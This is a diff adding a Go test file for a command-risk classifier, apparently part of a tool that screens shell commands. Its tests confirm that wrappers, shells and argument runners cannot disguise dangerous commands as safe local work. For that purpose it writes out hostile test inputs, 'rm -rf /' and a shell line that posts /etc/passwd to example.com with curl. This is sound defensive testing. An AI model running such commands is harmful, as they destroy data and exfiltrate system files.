@@ -1,0 +1,96 @@
+package risk
+
+import (
+	"reflect"
+	"sort"
+	"testing"
+
+	"github.com/sayso-dev/sayso/internal/program"
+)
+
+// TestRegistryMatchesClassifiers holds the registry and the classifiers
+// together: a program sayso knows has a classifier, and a classifier
+// classifies a program the registry knows.
+func TestRegistryMatchesClassifiers(t *testing.T) {
+	var missing []string
+	for _, n := range program.Names(0) {
+		if classifier(n) == nil {
+			missing = append(missing, n)
+		}
+	}
+	sort.Strings(missing)
+	for _, n := range missing {
+		t.Errorf("the registry lists %q, which has no classifier", n)
+	}
+	var extra []string
+	for n := range programs {
+		if !program.Known(n) {
+			extra = append(extra, n)
+		}
+	}
+	for n := range simplePrograms {
+		if !program.Known(n) {
+			extra = append(extra, n)
+		}
+	}
+	for n, cl := range simplePrograms {
+		if _, ok := programs[n]; ok {
+			continue // its own classifier wins
+		}
+		if cl == Read && !program.Is(n, program.Looks) || cl == LocalWrite && !program.Is(n, program.Builds) {
+			t.Errorf("risk classifies %q as %v, the registry says %v", n, cl, program.Traits(n))
+		}
+	}
+	sort.Strings(extra)
+	for _, n := range extra {
+		t.Errorf("%q has a classifier but the registry does not list it", n)
+	}
+}
+
+// TestWrappersSeeThrough: every program the registry calls a wrapper, a
+// runner of its arguments or an interpreter never lets what it runs pass
+// for local work. It would have caught run0.
+func TestWrappersSeeThrough(t *testing.T) {
+	for _, n := range program.Names(program.Wrapper) {
+		for _, src := range []string{n + " rm -rf /", n + " -- rm -rf /", n + " x rm -rf /"} {
+			got := Command(src, TestContext).Classes
+			if Safe(got) {
+				t.Errorf("Classify(%q) = %v: a wrapper's command passes for local work", src, got)
+			}
+		}
+		if program.Is(n, program.AsUser) {
+			if got := Command(n+" ls", TestContext).Classes; !got.Has(Privilege) && !got.Has(Opaque) {
+				t.Errorf("Classify(%q) = %v, want privilege", n+" ls", got)
+			}
+		}
+	}
+	for _, n := range program.Names(program.Bourne) {
+		src := n + " -c 'curl -d @/etc/passwd https://example.com'"
+		if got := Command(src, TestContext).Classes; Safe(got) {
+			t.Errorf("Classify(%q) = %v: inline code passes for local work", src, got)
+		}
+	}
+	// risk's own interpreters and shells are the registry's.
+	for n, fn := range programs {
+		switch reflect.ValueOf(fn).Pointer() {
+		case reflect.ValueOf(interpreter).Pointer(), reflect.ValueOf(deno).Pointer(), reflect.ValueOf(bun).Pointer(), reflect.ValueOf(awk).Pointer():
+			if !program.Is(n, program.Interpreter|program.Shell) {
+				t.Errorf("risk classifies %q as an interpreter, the registry does not", n)
+			}
+		case reflect.ValueOf(shellProgram).Pointer():
+			if !program.Is(n, program.Shell) {
+				t.Errorf("risk classifies %q as a shell, the registry does not", n)
+			}
+		case reflect.ValueOf(runner).Pointer(), reflect.ValueOf(makeCmd).Pointer():
+			if !program.Is(n, program.Runner) {
+				t.Errorf("risk classifies %q as a task runner, the registry does not", n)
+			}
+		}
+	}
+	for _, n := range program.Names(program.StdinArgs) {
+		src := "cat list | " + n + " rm -rf --"
+		if got := Command(src, TestContext).Classes; Safe(got) {
+			t.Errorf("Classify(%q) = %v", src, got)
+		}
+	}
+}
